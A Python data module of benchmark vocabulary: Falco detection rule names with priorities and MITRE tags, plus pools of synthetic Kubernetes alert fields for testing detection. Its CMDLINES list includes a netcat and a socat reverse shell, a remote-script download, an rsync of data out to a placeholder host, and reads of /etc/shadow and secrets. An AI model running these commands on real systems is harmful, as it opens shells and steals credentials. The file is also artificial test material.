"""The vocabulary the mixed benchmark draws from: Falco rule names (the stable set and the
wider syscall and Kubernetes-audit sets operators run), with their usual priority, source
and tags, and pools of the field values a cluster really shows.

Written for this project as benchmark data (names and levels only; no rule text).
"""

from __future__ import annotations

_C, _H = "container", "host"
# (rule, priority, source, tags)
RULES: list[tuple[str, str, str, tuple[str, ...]]] = [
    ("Directory traversal monitored file read", "Warning", "syscall", (_H, _C, "filesystem", "mitre_credential_access")),
    ("Read sensitive file trusted after startup", "Warning", "syscall", (_H, _C, "filesystem", "mitre_credential_access")),
    ("Read sensitive file untrusted", "Warning", "syscall", (_H, _C, "filesystem", "mitre_credential_access")),
    ("Run shell untrusted", "Notice", "syscall", (_H, _C, "process", "shell", "mitre_execution")),
    ("System user interactive", "Informational", "syscall", (_H, _C, "users", "mitre_execution")),
    ("Terminal shell in container", "Notice", "syscall", (_C, "shell", "mitre_execution")),
    ("Contact K8S API Server From Container", "Notice", "syscall", (_C, "network", "k8s", "mitre_discovery")),
    ("Netcat Remote Code Execution in Container", "Warning", "syscall", (_C, "network", "process", "mitre_execution")),
    ("Search Private Keys or Passwords", "Warning", "syscall", (_H, _C, "process", "filesystem", "mitre_credential_access")),
    ("Clear Log Activities", "Warning", "syscall", (_H, _C, "filesystem", "mitre_defense_evasion")),
    ("Remove Bulk Data from Disk", "Warning", "syscall", (_H, _C, "process", "filesystem", "mitre_impact")),
    ("Create Symlink Over Sensitive Files", "Warning", "syscall", (_H, _C, "filesystem", "mitre_credential_access")),
    ("Create Hardlink Over Sensitive Files", "Warning", "syscall", (_H, _C, "filesystem", "mitre_credential_access")),
    ("Packet socket created in container", "Notice", "syscall", (_C, "network", "mitre_credential_access")),
    ("Redirect STDOUT/STDIN to Network Connection in Container", "Notice", "syscall", (_C, "network", "process", "mitre_execution")),
    ("Linux Kernel Module Injection Detected", "Warning", "syscall", (_H, _C, "process", "mitre_persistence")),
    ("Debugfs Launched in Privileged Container", "Warning", "syscall", (_C, "cis", "process", "mitre_privilege_escalation")),
    ("Detect release_agent File Container Escapes", "Critical", "syscall", (_C, "process", "mitre_privilege_escalation")),
    ("PTRACE attached to process", "Warning", "syscall", (_H, _C, "process", "mitre_privilege_escalation")),
    ("PTRACE anti-debug attempt", "Notice", "syscall", (_H, _C, "process", "mitre_defense_evasion")),
    ("Find AWS Credentials", "Warning", "syscall", (_H, _C, "process", "aws", "mitre_credential_access")),
    ("Execution from /dev/shm", "Warning", "syscall", (_H, _C, "mitre_execution")),
    ("Drop and execute new binary in container", "Critical", "syscall", (_C, "process", "mitre_persistence")),
    ("Disallowed SSH Connection Non Standard Port", "Notice", "syscall", (_H, _C, "network", "process", "mitre_execution")),
    ("Fileless execution via memfd_create", "Critical", "syscall", (_H, _C, "process", "mitre_defense_evasion")),
    ("Write below etc", "Error", "syscall", (_H, _C, "filesystem", "mitre_persistence")),
    ("Write below root", "Error", "syscall", (_H, _C, "filesystem", "mitre_persistence")),
    ("Write below binary dir", "Error", "syscall", (_H, _C, "filesystem", "mitre_persistence")),
    ("Write below monitored dir", "Error", "syscall", (_H, _C, "filesystem", "mitre_persistence")),
    ("Write below rpm database", "Error", "syscall", (_H, _C, "filesystem", "software_mgmt")),
    ("Modify binary dirs", "Error", "syscall", (_H, _C, "filesystem", "mitre_defense_evasion")),
    ("Mkdir binary dirs", "Error", "syscall", (_H, _C, "filesystem", "mitre_persistence")),
    ("Create files below dev", "Error", "syscall", (_H, _C, "filesystem", "mitre_persistence")),
    ("Read ssh information", "Error", "syscall", (_H, _C, "filesystem", "mitre_collection")),
    ("Read Shell Configuration File", "Warning", "syscall", (_H, _C, "filesystem", "mitre_discovery")),
    ("Modify Shell Configuration File", "Warning", "syscall", (_H, _C, "filesystem", "mitre_persistence")),
    ("Delete or rename shell history", "Warning", "syscall", (_H, _C, "process", "mitre_defense_evasion")),
    ("Schedule Cron Jobs", "Notice", "syscall", (_H, _C, "filesystem", "mitre_execution")),
    ("Update Package Repository", "Notice", "syscall", (_H, _C, "filesystem", "mitre_persistence")),
    ("Launch Package Management Process in Container", "Error", "syscall", (_C, "process", "software_mgmt")),
    ("Launch Privileged Container", "Informational", "syscall", (_C, "cis", "mitre_execution")),
    ("Launch Sensitive Mount Container", "Informational", "syscall", (_C, "cis", "mitre_execution")),
    ("Launch Disallowed Container", "Notice", "syscall", (_C, "mitre_lateral_movement")),
    ("Launch Suspicious Network Tool in Container", "Notice", "syscall", (_C, "network", "process", "mitre_discovery")),
    ("Launch Suspicious Network Tool on Host", "Notice", "syscall", (_H, "network", "process", "mitre_discovery")),
    ("Launch Remote File Copy Tools in Container", "Notice", "syscall", (_C, "network", "process", "mitre_exfiltration")),
    ("Launch Ingress Remote File Copy Tools in Container", "Notice", "syscall", (_C, "network", "process", "mitre_command_and_control")),
    ("Change thread namespace", "Notice", "syscall", (_H, _C, "process", "mitre_privilege_escalation")),
    ("Change namespace privileges via unshare", "Notice", "syscall", (_H, _C, "mitre_privilege_escalation")),
    ("Set Setuid or Setgid bit", "Notice", "syscall", (_H, _C, "process", "mitre_privilege_escalation")),
    ("Non sudo setuid", "Notice", "syscall", (_H, _C, "users", "mitre_privilege_escalation")),
    ("User mgmt binaries", "Notice", "syscall", (_H, _C, "users", "mitre_persistence")),
    ("Unexpected UDP Traffic", "Notice", "syscall", (_H, _C, "network", "mitre_exfiltration")),
    ("Outbound Connection to C2 Servers", "Warning", "syscall", (_H, _C, "network", "mitre_command_and_control")),
    ("Unexpected outbound connection destination", "Notice", "syscall", (_H, _C, "network", "mitre_command_and_control")),
    ("Unexpected inbound connection source", "Notice", "syscall", (_H, _C, "network", "mitre_command_and_control")),
    ("Program run with disallowed http proxy env", "Notice", "syscall", (_H, _C, "users", "mitre_command_and_control")),
    ("Interpreted procs inbound network activity", "Notice", "syscall", (_H, _C, "network", "mitre_exfiltration")),
    ("Interpreted procs outbound network activity", "Notice", "syscall", (_H, _C, "network", "mitre_exfiltration")),
    ("Container Drift Detected (chmod)", "Error", "syscall", (_C, "process", "filesystem", "mitre_execution")),
    ("Container Drift Detected (open+create)", "Error", "syscall", (_C, "process", "filesystem", "mitre_execution")),
    ("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "Critical", "syscall", (_H, _C, "process", "users", "mitre_privilege_escalation")),
    ("Java Process Class File Download", "Critical", "syscall", (_H, _C, "process", "mitre_initial_access")),
    ("Mount Launched in Privileged Container", "Warning", "syscall", (_C, "cis", "filesystem", "mitre_lateral_movement")),
    ("Adding ssh keys to authorized_keys", "Warning", "syscall", (_H, _C, "filesystem", "mitre_persistence")),
    ("BPF Program Not Profiled", "Notice", "syscall", (_H, _C, "mitre_persistence")),
    ("Decoding Payload in Container", "Informational", "syscall", (_C, "process", "mitre_command_and_control")),
    ("Basic Interactive Reconnaissance", "Notice", "syscall", (_H, _C, "process", "mitre_reconnaissance")),
    ("Create Privileged Pod", "Warning", "k8s_audit", ("k8s",)),
    ("Create Sensitive Mount Pod", "Warning", "k8s_audit", ("k8s",)),
    ("Create HostNetwork Pod", "Warning", "k8s_audit", ("k8s",)),
    ("Create NodePort Service", "Warning", "k8s_audit", ("k8s",)),
    ("Attach/Exec Pod", "Notice", "k8s_audit", ("k8s",)),
    ("EphemeralContainers Created", "Notice", "k8s_audit", ("k8s",)),
    ("Create Disallowed Namespace", "Warning", "k8s_audit", ("k8s",)),
    ("Pod Created in Kube Namespace", "Warning", "k8s_audit", ("k8s",)),
    ("Service Account Created in Kube Namespace", "Warning", "k8s_audit", ("k8s",)),
    ("ClusterRole With Wildcard Created", "Warning", "k8s_audit", ("k8s",)),
    ("ClusterRole With Pod Exec Created", "Warning", "k8s_audit", ("k8s",)),
    ("Attach to cluster-admin Role", "Warning", "k8s_audit", ("k8s",)),
    ("K8s Secret Get Successfully", "Error", "k8s_audit", ("k8s",)),
    ("Anonymous Request Allowed", "Warning", "k8s_audit", ("k8s",)),
]

# Rule families an operator writes a glob for (each matches several names above).
RULE_GLOBS = ["Read sensitive file *", "Write below *", "Launch * in Container", "Create * Pod",
              "Container Drift Detected *", "*Shell Configuration File", "PTRACE *",
              "Create *link Over Sensitive Files", "Launch Suspicious Network Tool *",
              "Interpreted procs * network activity", "ClusterRole With *", "Unexpected *",
              "*Privileged Container", "Change *"]

TEAMS = ["payments", "checkout", "search", "identity", "ledger", "catalog", "media", "ads",
         "billing", "shipping", "reviews", "mobile-api", "gateway", "fraud", "data", "ml"]
ENVS = ["prod", "staging", "dev"]
SYSTEM_NAMESPACES = ["kube-system", "falco", "monitoring", "ingress-nginx", "cert-manager"]
APPS = ["api", "worker", "frontend", "cron", "db-proxy", "cache", "consumer", "scheduler"]
REGISTRIES = ["docker.io/library", "ghcr.io/acme", "123456789012.dkr.ecr.eu-west-1.amazonaws.com",
              "quay.io/acme", "registry.k8s.io"]
IMAGES = ["alpine", "nginx", "python", "node", "redis", "postgres", "busybox", "golang",
          "envoy", "java-app", "ruby", "debian", "ubuntu", "kube-proxy", "fluent-bit"]
PROCS = ["sh", "bash", "ash", "python3", "node", "java", "curl", "wget", "nc", "ncat", "nmap",
         "cat", "find", "grep", "apt-get", "apk", "pip", "mount", "ptrace-test", "ssh",
         "scp", "rsync", "base64", "chmod", "crontab", "openssl", "kubectl", "socat"]
PARENTS = ["runc", "containerd-shim", "bash", "sh", "sshd", "systemd", "node", "python3",
           "java", "cron", "tini", "dumb-init"]
USERS = [("root", 0), ("www-data", 33), ("nobody", 65534), ("app", 1000), ("postgres", 999),
         ("node", 1001), ("daemon", 1), ("ubuntu", 1002)]
FILES = ["/etc/shadow", "/etc/passwd", "/etc/sudoers", "/root/.ssh/authorized_keys",
         "/home/app/.bashrc", "/etc/ld.so.preload", "/usr/bin/kubectl", "/dev/shm/x",
         "/var/run/secrets/kubernetes.io/serviceaccount/token", "/tmp/payload", "/bin/sh",
         "/proc/self/mem", "/sys/fs/cgroup/release_agent", "/etc/crontab", "/var/log/syslog",
         "/home/app/.aws/credentials", "/etc/pam.d/common-auth", "/usr/lib/libc.so.6"]
CMDLINES = ["sh -c clear; (bash || ash || sh)", "bash -i", "curl -s http://{ip}/x.sh",
            "wget -q -O- http://{ip}:8080/p", "nc -e /bin/sh {ip} 4444", "cat /etc/shadow",
            "find / -name id_rsa", "python3 -c import pty;pty.spawn('/bin/sh')",
            "apt-get install -y nmap", "base64 -d /tmp/payload", "chmod +x /tmp/payload",
            "grep -r password /home", "mount /dev/sda1 /mnt", "kubectl get secrets -A",
            "openssl s_client -connect {ip}:443", "crontab -l", "node server.js",
            "java -jar app.jar", "socat tcp:{ip}:9001 exec:sh", "rsync -a /data {ip}::x"]
NODES = [f"ip-10-0-{i // 16}-{i % 16 + 4}.eu-west-1.compute.internal" for i in range(40)]


def namespaces() -> list[str]:
    """Team namespaces per environment, and the system ones: 53 in all."""
    return [f"{team}-{env}" for team in TEAMS for env in ENVS] + SYSTEM_NAMESPACES
